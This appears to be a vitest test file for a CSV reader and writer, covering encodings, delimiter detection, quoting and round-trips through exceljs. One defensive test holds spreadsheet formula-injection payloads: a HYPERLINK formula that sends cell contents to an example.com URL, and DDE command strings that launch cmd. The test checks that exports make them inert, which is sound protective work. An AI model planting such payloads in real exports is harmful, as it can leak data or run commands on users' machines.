// lib/util/delimited.ts: the one reader and writer of delimited text (spot sheets, layer-file
// tables). Texts written by hand and by exceljs's csv writer, encodings by Node's own encoders; what
// it writes is read back by exceljs.

import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvOf, decodeText, delimitedRows, unescapedCell } from '../../lib/util/delimited';
import { seededRandom } from '../helpers/random';

const rows = (text: string, maxRows = 100) => delimitedRows(text, maxRows).rows;

describe('decoding uploaded text', () => {
  const text = 'Service_Spot_ID,Fósforo [ppm],Ñandú “€”\n';
  // the same text in Windows-1252: ó F3, Ñ D1, ú FA; “ 93, € 80, ” 94 (where Latin-1 has C1 controls)
  const windows1252 = Buffer.from([
    ...Buffer.from('Service_Spot_ID,F'),
    0xf3,
    ...Buffer.from('sforo [ppm],'),
    0xd1,
    ...Buffer.from('and'),
    0xfa,
    0x20,
    0x93,
    0x80,
    0x94,
    0x0a,
  ]);

  it('reads UTF-8 with and without its byte-order mark', () => {
    expect(decodeText(Buffer.from(text, 'utf8'))).toBe(text);
    expect(decodeText(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]))).toBe(text);
  });

  it('reads UTF-16 by its byte-order mark, either byte order', () => {
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    const be = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, 'utf16le').swap16()]);
    expect(decodeText(le)).toBe(text);
    expect(decodeText(be)).toBe(text);
  });

  it('reads text that is not UTF-8 as Windows-1252 (a csv saved by a Spanish Excel)', () => {
    expect(decodeText(windows1252)).toBe(text);
  });

  it('decodes a view into a larger buffer by its own bytes only', () => {
    const whole = Buffer.from(`xx${text}yy`, 'utf8');
    expect(decodeText(whole.subarray(2, whole.length - 2))).toBe(text);
  });
});

describe('rows of delimited text', () => {
  it('guesses the delimiter among , ; tab | and keeps the cells as text', () => {
    expect(rows('id,value\na,"1,5"\nb,007\n')).toEqual([
      ['id', 'value'],
      ['a', '1,5'],
      ['b', '007'],
    ]);
    expect(rows('id;value\na;1,5\nb;2,5\n')).toEqual([
      ['id', 'value'],
      ['a', '1,5'],
      ['b', '2,5'],
    ]);
    expect(rows('id\tvalue\na\t1\n')).toEqual([
      ['id', 'value'],
      ['a', '1'],
    ]);
    expect(rows('id|value\na|1\n')).toEqual([
      ['id', 'value'],
      ['a', '1'],
    ]);
    expect(delimitedRows('id;value\na;1,5\n', 10).delimiter).toBe(';');
  });

  it("honours Excel's sep= hint and leaves it out of the rows", () => {
    const read = delimitedRows('sep=;\r\nid;v,w\na;1,2\n', 10);
    expect([read.delimiter, read.rows]).toEqual([
      ';',
      [
        ['id', 'v,w'],
        ['a', '1,2'],
      ],
    ]);
  });

  it('honours quotes: delimiters, doubled quotes and line breaks inside a cell', () => {
    expect(rows('id,note,v\na,"line 1\nline 2",3\nb,"say ""hi""; x",4\n')).toEqual([
      ['id', 'note', 'v'],
      ['a', 'line 1\nline 2', '3'],
      ['b', 'say "hi"; x', '4'],
    ]);
  });

  it('takes \\n, \\r\\n and \\r line ends, and leaves blank rows out', () => {
    expect(rows('id,v\r\na,1\r\n\r\n,\r\nb,2\r\n')).toEqual([
      ['id', 'v'],
      ['a', '1'],
      ['b', '2'],
    ]);
    expect(rows('id,v\ra,1\r\rb,2\r')).toEqual([
      ['id', 'v'],
      ['a', '1'],
      ['b', '2'],
    ]);
    expect(rows('id,v,w\na,,\n , ,\nb,2\n')).toEqual([
      ['id', 'v', 'w'],
      ['a', '', ''],
      ['b', '2'],
    ]);
  });

  it('reads no more than maxRows rows and says when there were more', () => {
    const text = Array.from({ length: 50 }, (_, i) => `row${i},${i}`).join('\n');
    const read = delimitedRows(text, 3);
    expect([read.rows, read.truncated]).toEqual([
      [
        ['row0', '0'],
        ['row1', '1'],
        ['row2', '2'],
      ],
      true,
    ]);
    expect(delimitedRows(text, 50).truncated).toBe(false);
  });

  it('has no delimiter for text no delimiter splits, and no rows for empty text', () => {
    expect(delimitedRows('x y z\n1 2 3\n', 10)).toEqual({
      rows: [['x y z'], ['1 2 3']],
      delimiter: undefined,
      truncated: false,
    });
    expect(delimitedRows('', 10).rows).toEqual([]);
    expect(delimitedRows('\n\n', 10).rows).toEqual([]);
  });

  it("reads back what exceljs's csv writer writes", async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('s');
    const written = [
      ['Service_Spot_ID', 'Fósforo [ppm]', 'nota'],
      ['a', '1.5', 'dice "sí", y\notra línea'],
      ['b', '2', ''],
    ];
    for (const row of written) sheet.addRow(row);
    const csv = Buffer.from(await book.csv.writeBuffer());
    expect(rows(decodeText(csv))).toEqual([written[0], written[1], ['b', '2', '']]);
  });
});

describe('csv written', () => {
  it('as UTF-8 text with \\n line ends: quoted where a cell holds a comma, a quote, a line break or spaces at an end; null empty', () => {
    expect(
      csvOf([
        ['a', 'b,c', 'say "hi"'],
        [1, null, 'ñ'],
        [' x', 'y\rz', -0.5],
      ]).toString('utf8'),
    ).toBe('a,"b,c","say ""hi"""\n1,,ñ\n" x","y\rz",-0.5');
  });

  it('with the cells a spreadsheet would run as formulas made inert (OWASP): quoted, after an apostrophe; numbers as they are', () => {
    const hostile = ['=HYPERLINK("https://example.com/?x="&A1,"ver")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'x'!A0"];
    const more = ['-2+3+cmd|x!A0', '\t=1+1', '\r=1+1'];
    const plain = ['-60.5712345', '+3', '-1e-7', 'Lote = norte', 'a@b'];
    const text = csvOf([
      [...hostile, ...more],
      [...plain, -60.5],
    ]).toString('utf8');
    const [first, second] = text.split('\n');
    expect(first).toBe(
      '"\'=HYPERLINK(""https://example.com/?x=""&A1,""ver"")","\'+cmd|\' /C calc\'!A0","\'@SUM(1+1)*cmd|\'x\'!A0",' +
        '"\'-2+3+cmd|x!A0","\'\t=1+1","\'\r=1+1"',
    );
    expect(second).toBe('-60.5712345,+3,-1e-7,Lote = norte,a@b,-60.5');
    // read back, the apostrophe is what the export added
    expect(delimitedRows(text, 10).rows[0]!.map(unescapedCell)).toEqual([...hostile, ...more]);
  });

  it("as exceljs's csv reader reads it back, cell for cell", async () => {
    const written = [
      ['Service_Spot_ID', 'Fósforo [ppm]', 'nota'],
      ['a', 'b; c', 'dice "sí", y\notra línea'],
      ['b', '2.5', ' espacio '],
    ];
    const sheet = await new ExcelJS.Workbook().csv.read(Readable.from([csvOf(written)]));
    const read = [1, 2, 3].map((r) => [1, 2, 3].map((c) => sheet.getRow(r).getCell(c).value));
    expect(read).toEqual([written[0], written[1], ['b', 2.5, ' espacio ']]);
  });
});

describe('csv written and read back', () => {
  it('gives back every cell of a sheet shaped as the spot export (a header, then rows), whatever its cells hold: delimiters, quotes, line breaks', () => {
    const next = seededRandom(20261126);
    const pieces = ['a', ',', ';', '\t', '|', '"', '\n', '\r', '\r\n', ' ', 'ñ', '=', '1,5', 'x;y;z', '€'];
    const cell = () =>
      Array.from({ length: Math.floor(next() * 8) }, () => pieces[Math.floor(next() * pieces.length)]).join('');
    for (let i = 0; i < 2000; i++) {
      const columns = 9 + Math.floor(next() * 6);
      const written = [
        Array.from({ length: columns }, (_, c) => `column ${c} [ppm]`),
        ...Array.from({ length: 1 + Math.floor(next() * 5) }, (_, r) =>
          Array.from({ length: columns }, (_, c) => (c === 0 ? `id${r}` : cell())),
        ),
      ];
      const read = delimitedRows(decodeText(csvOf(written)), 100).rows;
      expect(read.map((row) => row.map(unescapedCell))).toEqual(written);
    }
  });
});
